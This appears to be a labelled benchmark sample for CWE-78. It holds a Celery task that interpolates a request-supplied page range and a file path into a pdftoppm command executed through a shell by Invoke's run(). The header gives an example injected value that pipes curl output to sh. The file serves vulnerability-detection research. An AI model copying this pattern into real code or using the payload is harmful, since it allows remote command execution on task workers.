# ---
# id: cwe78-invoke-run-v
# cwe: CWE-78
# vulnerable: true
# twin: none
# tags: invoke, celery, pdf
# explanation: A Celery task renders a PDF preview with Invoke's run(), which executes its command string through a shell. The page range comes from the request that queued the task, so a value like "1-3; curl x | sh" runs on the worker.
# ---
from celery import shared_task
from invoke import run

PREVIEWS = "/srv/docs/previews"


def preview_path(doc_id: int) -> str:
    return f"{PREVIEWS}/{doc_id}.png"


@shared_task
def render_preview(doc_id: int, source_path: str, pages: str = "1") -> str:
    first, _, last = pages.partition("-")
    result = run(  #@vuln
        f"pdftoppm -png -r 72 -f {first} -l {last or first} -singlefile {source_path} {PREVIEWS}/{doc_id}",  #@vuln
        hide=True,
        warn=True,
        timeout=120,
    )
    if result.failed:
        raise RuntimeError(result.stderr[-500:])
    return preview_path(doc_id)
